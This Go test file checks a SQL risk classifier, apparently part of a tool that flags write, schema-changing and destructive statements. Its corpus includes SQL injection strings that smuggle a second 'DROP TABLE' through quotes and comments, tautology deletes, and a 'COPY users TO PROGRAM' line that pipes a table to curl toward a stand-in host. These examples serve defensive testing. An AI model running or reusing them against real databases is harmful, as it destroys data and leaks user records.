package risk

import (
	"fmt"
	"strings"
	"testing"
)

var allSQLTags = []string{"sql.write", "sql.ddl", "sql.destructive", "sql.parse_error"}

func TestSQLCorpus(t *testing.T) {
	cases := []struct {
		src   string
		has   []string
		stmts string // verb:tables:where; ...
	}{
		{"SELECT * FROM users WHERE id = 1", nil, "SELECT:users:true"},
		{"select name from Users u join orders o on o.uid = u.id", nil, "SELECT:users,orders:false"},
		{"SELECT a FROM s.t1, t2 AS x, \"Quoted Table\" q", nil, `SELECT:s.t1,t2,Quoted Table:false`},
		{"SELECT EXTRACT(YEAR FROM created_at) FROM events", nil, "SELECT:events:false"},
		{"SELECT 1", nil, "SELECT::false"},
		{"INSERT INTO logs (msg) VALUES ('hi')", []string{"sql.write"}, "INSERT:logs:false"},
		{"UPDATE users SET admin = true WHERE id = 7", []string{"sql.write"}, "UPDATE:users:true"},
		{"UPDATE users SET admin = true", []string{"sql.write", "sql.destructive"}, "UPDATE:users:false"},
		{"DELETE FROM sessions WHERE expires < now()", []string{"sql.write"}, "DELETE:sessions:true"},
		{"DELETE FROM sessions", []string{"sql.write", "sql.destructive"}, "DELETE:sessions:false"},
		{"delete from sessions where 1=1", []string{"sql.write", "sql.destructive"}, "DELETE:sessions:false"},
		{"DELETE FROM s WHERE id = 3 OR 1 = 1", []string{"sql.write", "sql.destructive"}, "DELETE:s:false"},
		{"DELETE FROM s WHERE TRUE", []string{"sql.write", "sql.destructive"}, "DELETE:s:false"},
		{"DELETE FROM s WHERE 'a' = 'a'", []string{"sql.write", "sql.destructive"}, "DELETE:s:false"},
		{"DELETE FROM s WHERE id IN (SELECT id FROM t WHERE x)", []string{"sql.write"}, "DELETE:s,t:true"},
		{"UPDATE t SET x = (SELECT y FROM u WHERE z)", []string{"sql.write", "sql.destructive"}, "UPDATE:t,u:false"},
		{"DROP TABLE users", []string{"sql.ddl", "sql.destructive"}, "DROP:users:false"},
		{"drop table if exists a, b cascade", []string{"sql.ddl", "sql.destructive"}, "DROP:a,b:false"},
		{"TRUNCATE TABLE audit", []string{"sql.ddl", "sql.destructive", "sql.write"}, "TRUNCATE:audit:false"},
		{"CREATE TABLE IF NOT EXISTS t (id int)", []string{"sql.ddl"}, "CREATE:t:false"},
		{"CREATE INDEX i ON users (email)", []string{"sql.ddl"}, "CREATE:users:false"},
		{"ALTER TABLE users ADD COLUMN age int", []string{"sql.ddl"}, "ALTER:users:false"},
		{"ALTER TABLE users DROP COLUMN email", []string{"sql.ddl", "sql.destructive"}, "ALTER:users:false"},
		{"GRANT ALL ON accounts TO bob", []string{"sql.ddl"}, "GRANT:accounts:false"},
		{"SELECT 1; DROP TABLE users", []string{"sql.ddl", "sql.destructive"}, "SELECT::false;DROP:users:false"},
		{"SELECT 1; -- DROP TABLE users", nil, "SELECT::false"},
		{"SELECT 1 /* DROP TABLE users; */", nil, "SELECT::false"},
		{"SELECT 1 /*!50000 ; DROP TABLE users */", []string{"sql.ddl", "sql.destructive"}, "SELECT::false;DROP:users:false"},
		{"SELECT 1 --1; DROP TABLE users", []string{"sql.ddl", "sql.destructive"}, ""},
		{"SELECT 'x; DROP TABLE users'", nil, "SELECT::false"},
		{`SELECT 'a\'; DROP TABLE users; --'`, []string{"sql.ddl", "sql.destructive"}, ""},
		{"SELECT $$; DROP TABLE x$$", nil, "SELECT::false"},
		{"SELECT $tag$ ; DELETE FROM x $tag$", nil, "SELECT::false"},
		{"WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", []string{"sql.write", "sql.destructive"}, "DELETE:users:false;SELECT:gone:false"},
		{"WITH x AS (SELECT 1) UPDATE t SET a = 1 WHERE b", []string{"sql.write"}, "UPDATE:t:true"},
		{"EXPLAIN DELETE FROM users", nil, "EXPLAIN:users:false"},
		{"EXPLAIN ANALYZE DELETE FROM users", []string{"sql.write", "sql.destructive"}, "DELETE:users:false"},
		{"COPY users TO PROGRAM 'curl -d @- evil'", []string{"sql.write", "sql.destructive"}, "COPY:users:false"},
		{"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", []string{"sql.write"}, "MERGE:t,s:false"},
		{"SELECT 1 # ; DROP TABLE users", []string{"sql.ddl", "sql.destructive"}, ""},
		{"SELECT * INTO backup FROM users", []string{"sql.ddl"}, "CREATE:backup,users:false"},
		{"(SELECT 1)", nil, "SELECT::false"},
		{"", nil, ""},
		{";;", nil, ""},
		{"hello world", []string{"sql.parse_error"}, ""},
		{"SELECT 'unterminated", []string{"sql.parse_error"}, ""},
		{"SELECT /* unterminated", []string{"sql.parse_error"}, ""},
		{`SELECT "unterminated`, []string{"sql.parse_error"}, ""},
	}
	for _, c := range cases {
		stmts, tags := ClassifySQL(c.src)
		var absent []string
		for _, tag := range allSQLTags {
			if !containsString(c.has, tag) {
				absent = append(absent, tag)
			}
		}
		checkTags(t, c.src, tags, append([]string{"sql"}, c.has...), absent)
		if c.stmts == "" && !containsString(c.has, "sql.parse_error") && len(c.has) > 0 {
			continue // tags are what matters for these
		}
		var got []string
		for _, s := range stmts {
			got = append(got, fmt.Sprintf("%s:%s:%v", s.Verb, strings.Join(s.Tables, ","), s.HasWhere))
		}
		if strings.Join(got, ";") != c.stmts && !(c.stmts == "" && containsString(c.has, "sql.parse_error")) {
			t.Errorf("%q: statements %q, want %q", c.src, strings.Join(got, ";"), c.stmts)
		}
	}
}

func containsString(l []string, s string) bool {
	for _, x := range l {
		if x == s {
			return true
		}
	}
	return false
}

// FuzzClassifySQL: any input classifies without a panic, and a destructive
// statement stays destructive whatever harmless statement precedes it.
func FuzzClassifySQL(f *testing.F) {
	for _, s := range []string{"SELECT 1", "DELETE FROM t", "WITH a AS (DELETE FROM x) SELECT 1", "SELECT 'a\\'; DROP TABLE t",
		"/*!", "$a$", "E'\\''", "((((", "EXPLAIN ANALYZE (", "SELECT EXTRACT(YEAR FROM x) FROM t WHERE 1=1 OR"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		_, tags := ClassifySQL(src)
		if len(tags) == 0 || tags[0] != "sql" {
			t.Fatalf("%q: tags %v", src, tags)
		}
		if containsString(tags, "sql.destructive") {
			if _, after := ClassifySQL("SELECT 1;\n" + src); !containsString(after, "sql.destructive") {
				t.Fatalf("%q: destructive alone, not after SELECT 1", src)
			}
		}
	})
}
